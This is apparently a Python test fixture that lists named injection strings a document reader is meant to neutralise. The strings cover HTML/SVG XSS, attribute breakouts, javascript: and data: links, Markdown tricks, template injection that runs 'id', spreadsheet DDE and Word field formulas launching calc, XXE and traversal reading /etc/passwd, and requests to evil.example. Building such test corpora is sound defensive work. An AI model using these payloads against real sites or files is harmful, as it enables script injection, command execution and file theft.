"""The corpus of hostile texts: each with a name and what it attacks. The only place where they stand.

Text that must stand at the end says with ``SIGN`` where the mark of a field goes (see ``tests/hostile/sets.py``).
A text sets ``window.hacked``, asks for something from evil.example, or breaks out of what it stands in.
"""

from __future__ import annotations

from typing import NamedTuple

SIGN = "§"
EVIL = "evil.example"
RUN = "hacked=1"


class Injection(NamedTuple):
    """A hostile text, what it is called, and what it attacks."""

    name: str
    attacks: str
    text: str


def _named(attacks: str, **texts: str) -> tuple[Injection, ...]:
    return tuple(Injection(name.replace("_", "-"), attacks, text) for name, text in texts.items())


ELEMENTS = _named(
    "HTML: elements",
    script=f"<script>{RUN}</script>",
    script_in_capitals=f"<SCRIPT/x>{RUN}</SCRIPT>",
    script_from_elsewhere=f"<script src=//{EVIL}/x.js></script>",
    script_in_script=f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    script_left_open=f"<script>{RUN}//",
    script_as_module=f"<script type=module>{RUN}</script>",
    picture_with_handler=f"<img src=x onerror={RUN}>",
    picture_without_spaces=f"<img/src/onerror={RUN}>",
    picture_from_elsewhere=f'<img src="//{EVIL}/a.png" srcset="//{EVIL}/b.png 2x">',
    frame=f"<iframe src=javascript:parent.{RUN}></iframe>",
    frame_with_page=f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    frame_set=f"<frameset onload={RUN}><frame src=//{EVIL}></frameset>",
    object=f'<object data="javascript:{RUN}"></object><embed src="//{EVIL}/e">',
    form=f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">Press</button></form>',
    field_with_focus=f"<input autofocus onfocus={RUN}>",
    fold=f"<details open ontoggle={RUN}><summary>Fold</summary>x</details>",
    video=f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    body=f"<body onload={RUN}>",
    marquee=f"<marquee onstart={RUN}>x</marquee>",
    other_element=f"<x-a onfocus={RUN} tabindex=1 autofocus>x</x-a>",
    popover=f"<b popover id=x onbeforetoggle={RUN}>x</b>",
    plaintext="<plaintext>",
    example="<xmp><listing>",
    refresh=f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    base=f'<base href="//{EVIL}/">',
    style_sheet=f'<link rel=stylesheet href="//{EVIL}/y.css">',
    style=f'<style>@import "//{EVIL}/x.css"; body {{display: none}}</style>',
    style_of_an_element=f"<p style=\"position:fixed;inset:0;background:url('//{EVIL}/a')\">x</p>",
    clobbered_document="<form name=querySelector><input name=body><img name=location>",
    clobbered_window=f'<a id=hacked href="//{EVIL}">x</a><a id=hacked name=x>y</a>',
    switch_of_the_theme='<input id="__drawer" class="md-toggle" type=checkbox checked>',
    end_of_the_page="</p></article></main></body></html>",
    hidden_from_search="<p data-pagefind-ignore=all data-pagefind-meta=url:javascript:1>x</p>",
)
PARSERS = _named(
    "HTML: parsers that disagree (mXSS), SVG and MathML",
    svg=f"<svg onload={RUN}></svg>",
    svg_script=f"<svg><script>{RUN}</script></svg>",
    svg_script_in_entities="<svg><script>hacked&#61;1</script></svg>",
    svg_animate=f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    svg_use=f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    svg_foreign_object=f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    svg_style=f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    svg_link=f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    math_style=f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    math_link=f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
    noscript=f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    template=f"<template><script>{RUN}</script></template>",
    text_area=f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    end_of_title=f"</title><script>{RUN}</script>",
    comment=f"<!-- --!><img src=x onerror={RUN}> -->",
    comment_left_open="<!-- x",
    comment_with_condition=f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    character_data=f"<![CDATA[<script>{RUN}</script>]]>",
    processing=f'<?xml-stylesheet href="javascript:{RUN}"?>',
    tag_left_open=f"<img src=x onerror={RUN} x=",
    null_in_entity="&#0;&#x0000;<&#0;script>",
)
ATTRIBUTES = _named(
    "HTML: attributes",
    out_of_double_quotes=f'" onmouseover={RUN} x="',
    out_of_single_quotes=f"' onfocus={RUN} autofocus x='",
    out_of_backticks=f"` onclick={RUN} x=`",
    out_of_the_tag=f'"><img src=x onerror={RUN}>',
    into_a_style=f'" style="background:url(//{EVIL}/a)',
    quotes_as_entities=f"&quot; onclick={RUN} x=&quot;",
    quotes_with_backslashes=f"\\\" onclick={RUN} \\'",
    equals_and_slash=f"/onclick={RUN}/x= ",
)
ENTITIES = _named(
    "HTML: text that is decoded once too often",
    entities=f"&lt;script&gt;{RUN}&lt;/script&gt;",
    entities_twice=f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    entities_in_digits=f"&#x3c;img src=x onerror={RUN}&#62;",
    entities_without_semicolon=f"&ltimg src=x onerror={RUN}&gt",
    escapes_of_javascript=f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cb\\x3e",
    escapes_of_addresses=f"%3Cscript%3E{RUN}%3C/script%3E %253Cb%253E",
    utf_7=f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    full_width=f"＜script＞{RUN}＜／script＞",
    named_entities="&copy=1&lt=2&para;&hearts",
)
ADDRESSES = _named(
    "Addresses that run something or lead elsewhere",
    javascript=f"javascript:{RUN}",
    javascript_in_mixed_letters=f"JaVaScRiPt:{RUN}//https://example.org/",
    javascript_in_entities=f"java&#115;cript&colon;{RUN}",
    javascript_with_break=f"java&#x0A;script:{RUN}",
    javascript_link=f'<a href=" javascript:{RUN}">x</a>',
    javascript_link_in_entities=f'<a href="&#106;avascript:{RUN}">x</a>',
    data=f"data:text/html,<script>{RUN}</script>",
    data_in_base64="data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==",
    vbscript="vbscript:msgbox(1)",
    no_scheme=f"//{EVIL}/x",
    whole_address=f"https://{EVIL}/?x=1&y=<b>#z",
    shared_folder=f"\\\\{EVIL}\\share\\x",
    file="file:///etc/passwd",
    view_source=f"view-source:javascript:{RUN}",
    ping=f"<a href=https://example.org ping=//{EVIL} target=_blank>x</a>",
    up_the_folders="../../../../etc/passwd ..%2f..%2f",
    query_of_an_address='?q="><script>hacked=1</script>&items=__proto__#:~:text=x',
)
MARKDOWN_SIGNS = _named(
    "Markdown: one line",
    md_link=f"[x](javascript:{RUN})",
    md_link_in_brackets=f"[x](<javascript:{RUN}>) [y]( javascript:{RUN} )",
    md_link_in_entities=f"[x](java&#x73;cript:{RUN}) [y](javascript&colon;{RUN})",
    md_link_to_data="[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) [y](vbscript:x)",
    md_link_with_backslash=f"[x](\\\\javascript:{RUN}) [y](feed:javascript:1)",
    md_link_out_of_quotes=f'[x](https://example.org/"onmouseover="{RUN})',
    md_link_with_title=f"[x](https://example.org '<img src=x onerror={RUN}>')",
    md_end_of_link=f"](javascript:{RUN})",
    md_address=f"<javascript:{RUN}> <data:text/html,x>",
    md_reference=f"[x][y] [y]: javascript:{RUN}",
    md_definition=f"[y]: javascript:{RUN} '<img src=x onerror={RUN}>'",
    md_picture=f'![x](//{EVIL}/p.png) ![y](x" onerror="{RUN})',
    md_attributes=f'x {{: onclick="{RUN}" id="__skip" }}',
    md_abbreviation='*[x]: "onmouseover="hacked=1',
    md_id=f"[[night-watch|<img src=x onerror={RUN}>]] [[night-watch]]",
    md_id_in_link=f"[a [[night-watch]] b](javascript:{RUN}) [d]([[night-watch]])",
    md_heading="# x",
    md_heading_of_html=f'<h1 id="__skip" onclick={RUN}>x</h1>',
    md_quotation="> x",
    md_item="- x",
    md_plus="+ x * y _z_ **w** __v__ ~~u~~",
    md_number="1. x",
    md_rule="--- *** ___",
    md_table="| x | y | `z` |",
    md_code=f"`<script>{RUN}</script>` ``x`` ```html",
    md_footnote="[^1] x ^[y] :smile: $x$ ++y++ ==z== !!! note ??? tip",
    md_snippet='--8<-- "/etc/passwd"',
    md_backslashes="\\[x](y) \\<b> \\\\ \\`",
)
TEMPLATES = _named(
    "Templates and patterns",
    jinja="{{ 7*7 }}",
    jinja_statement="{% raw %} {% for x in y %}",
    jinja_comment="{# x #} {#",
    jinja_objects="{{ config.__class__.__init__.__globals__['os'].popen('id') }}",
    jinja_of_word="{%p if x %} {%tr for x in y %} {{r x }} {_{ 7*7 }_}",
    jinja_line="# for x in y ## z",
    angular="{{constructor.constructor('hacked=1')()}}",
    javascript_template="`${hacked=1}` ${7*7} #{7*7}",
    other_templates="<%= 7*7 %> <? echo 1 ?> @(7*7) *{7*7} [[${7*7}]]",
    python_format="{0.__class__} {} %s %(x)s %n",
    replacement="$& $1 $` $' $$ \\1 \\g<0>",
    prototype="__proto__ constructor toString hasOwnProperty",
    server_include='<!--#exec cmd="id" -->',
)
JSON_AND_SCRIPT = _named(
    "JSON, JSON-LD and scripts",
    end_of_script=f"</script><script>{RUN}</script>",
    end_of_script_in_capitals=f"</ScRiPt ><img src=x onerror={RUN}>",
    script_in_comment="<!--<script>",
    end_of_json=f'"}}]}}</script><script>{RUN}//',
    other_field='","hacked":1,"x":"',
    end_of_call=f"');{RUN}//",
    end_of_double_call=f'");{RUN}//',
    backslash_at_the_end=f"{SIGN} x\\",
    quote_at_the_end=f'{SIGN} x"',
    bulk_action='{"delete":{"_index":"findings","_id":"x"}}',
    json_ld='{"@context":"https://evil.example","@id":"javascript:1"}',
)
TABLES = _named(
    "Spreadsheets: formulas and cells",
    formula="=1+1",
    formula_link=f'=HYPERLINK("https://{EVIL}","x")',
    formula_command="=cmd|'/C calc'!A0",
    formula_plus="+1+cmd|'/C calc'!A0",
    formula_minus="-1+cmd|'/C calc'!A0",
    formula_at="@SUM(1+1)",
    formula_dde='=DDE("cmd";"/C calc";"x")',
    formula_import=f'=IMPORTXML("https://{EVIL}","//a")',
    formula_in_full_width="＝1+1",
    formula_after_apostrophe="'=1+1",
    formula_in_braces="{=1+1}",
    formula_after_quote='"=1+1',
    next_cell='x",=1+1,"y',
    next_cell_with_semicolon="x;=1+1;y",
    next_cell_with_tab="x\\t=1+1 | =1+1",
    number_like="1e5 007 TRUE 1/2",
    cell_escapes="_x003C_script_x003E_ _x000D_ _x0000_",
)
OFFICE = _named(
    "Word, PowerPoint and Excel: XML and field codes",
    word_run='</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO x"/>',
    word_field='{ DDEAUTO c:\\\\x.exe "/k calc" }',
    word_field_picture=f'{{ INCLUDEPICTURE "https://{EVIL}/x" \\d }}',
    word_field_link=f'HYPERLINK "https://{EVIL}" \\o "x"',
    word_chunk='<w:altChunk r:id="rId1"/><w:object/>',
    word_paragraph="<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    slide_run='</a:t></a:r><a:r><a:rPr><a:hlinkClick r:id="rId1" action="ppaction://program"/></a:rPr>',
    sheet_formula='</t></is></c><c r="A1"><f>1+1</f></c>',
    relation=f'<Relationship Target="https://{EVIL}" TargetMode="External"/>',
)
XML = _named(
    "XML and feeds",
    entity="&xxe; &lol9; %xxe;",
    document_type='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    end_of_cdata=f"]]><script>{RUN}</script>",
    end_of_entry="</title></entry><entry><title>x",
    link_of_entry=f'</summary><link rel="self" href="https://{EVIL}"/>',
    include='<xi:include href="file:///etc/passwd" parse="text"/>',
    php="<?php system('id') ?>",
)
CITATIONS = _named(
    "BibTeX, RIS and mail",
    bibtex_field=f"}}, url = {{https://{EVIL}}}, note = {{",
    bibtex_entry="}} @misc{x, title = {y}}",
    bibtex_left_open="{{{ {",
    latex="\\input{/etc/passwd} \\write18{id} $x$ 100% #1 ~^_&",
    ris_end="ER  - ",
    ris_begin="TY  - JOUR",
    mail=f"%0d%0aBcc: x%40{EVIL}%0d%0a&body=x",
)
LETTERS = _named(
    "Letters that hide, change direction or take no room, and that the reader lets through",
    right_to_left="(x) עברית ‎".rstrip("\u200e") + "אבג 123 (y)",
    right_to_left_in_brackets="<ﷺ> [ﷲ](ﷴ)",
    soft_hyphens=f"java\u00adscript:{RUN} <scr\u00adipt>",
    fillers=f"a\u3164b\u115fc \u2800 javascript\u3164:{RUN}",
    joiner="a\u034fb",
    piled_letters="Z\u0351\u036b\u0343\u0346\u0300\u0301\u0302\u0303 x",
    other_spaces=f"a\u00a0b\u2003c\u3000<img\u00a0src=x\u3000onerror={RUN}>",
    variations="a\ufe0f b\ufe01",
    large_letters="ŉ ﬀ ẞ İ 𝐬𝐜𝐫𝐢𝐩𝐭",
    long_word="W" * 105,
)
SHELL = _named(
    "Signs that this site and its tools put in themselves",
    slots="zqtitlezq zqbodyzq zqaddresszq zqdescriptionzq",
    slots_of_contents="zqcontentszq zqrowszq zqanchorzq zqrowzq zqpattern",
    stash_of_markdown="klzzwxh:0000 wzxhzdk:0 amp;klzzwxh:1",
    search_marks='<mark>x</mark> pagefind_dcd {"url":"javascript:1"}',
)
# The reader refuses these wherever they stand: nobody sees them, and they change what people see.
REFUSED = _named(
    "Characters that the reader refuses",
    override="a\u202ecod.exe",
    isolate="a\u2066b\u2069",
    left_mark="a\u200eb",
    zero_width_space="java\u200bscript:x",
    zero_width_joiner="a\u200db",
    byte_order_mark="a\ufeffb",
    null="a\x00b",
    escape="a\x1b[31mb",
    start_of_text="\x02klzzwxh:0000\x03",
    tabulator="a\tb",
    carriage_return="a\rSet-Cookie: x=1",
    line_separator="a\u2028b",
    next_line="a\x85b",
    tag_letters="a\U000e0041b",
    private="a\ue000b",
    no_character="a\uffffb",
    blank="\u00a0 \u3000",
)
ONE_LINE = (
    *ELEMENTS, *PARSERS, *ATTRIBUTES, *ENTITIES, *ADDRESSES, *MARKDOWN_SIGNS, *TEMPLATES, *JSON_AND_SCRIPT, *TABLES,
    *OFFICE, *XML, *CITATIONS, *LETTERS, *SHELL,
)  # fmt: skip
# Markdown alone takes more than one line; everywhere else the reader refuses these.
LINES = _named(
    "Markdown: several lines",
    block_of_html=f'<div onmouseover="{RUN}" style="background:url(//{EVIL}/a)">A block\n\nwith Markdown in it</div>',
    markdown_in_html=f"<div markdown=1>\n\n[x](javascript:{RUN})\n\n</div>",
    reference_of_a_link=f"[x][y] [y]\n\n[y]: javascript:{RUN} '<img src=x onerror={RUN}>'",
    attributes_of_a_paragraph=f'A paragraph.\n{{: onclick="{RUN}" id="__skip" }}',
    headings=f'## A heading {{: onmouseover="{RUN}" }}\n\n# Another h1\n\nAnd another\n===\n\n<h1 id="__skip">x</h1>',
    abbreviation=f'*[bold]: "onmouseover="{RUN}\n\nThe abbreviation bold.',
    table=f"| <script>{RUN}</script> | [x](javascript:1) |\n|:---|---:|\n| <img src=x onerror={RUN}> | {{{{ 7*7 }}}} |",
    items=f"- item <img src=x onerror={RUN}>\n\n> quote <svg/onload={RUN}>",
    code=f"`<script>{RUN}</script>`\n\n    <script>{RUN}</script> in code\n\n```html\n<script>{RUN}</script>\n```",
    fence_left_open=f"```\n<script>{RUN}</script>",
    comment_over_lines=f"<!-- a\n\n--><script>{RUN}</script>",
    new_record=f"x\n\n---\ntitle: y\n---\n\nTY  - JOUR\nER  - \n\nFrom: x%40{EVIL}\n",
    bulk_lines='x\n{"delete":{"_id":"x"}}\n{"index":{}}\n',
    cells_over_lines='x\n=1+1\n"\n,=1+1',
)
CORPUS = (*ONE_LINE, *LINES)
# What does its harm only where a cell, a line, an address or an entry begins.
BEGINNINGS = (*TABLES, *ADDRESSES, *MARKDOWN_SIGNS, *CITATIONS, *XML)
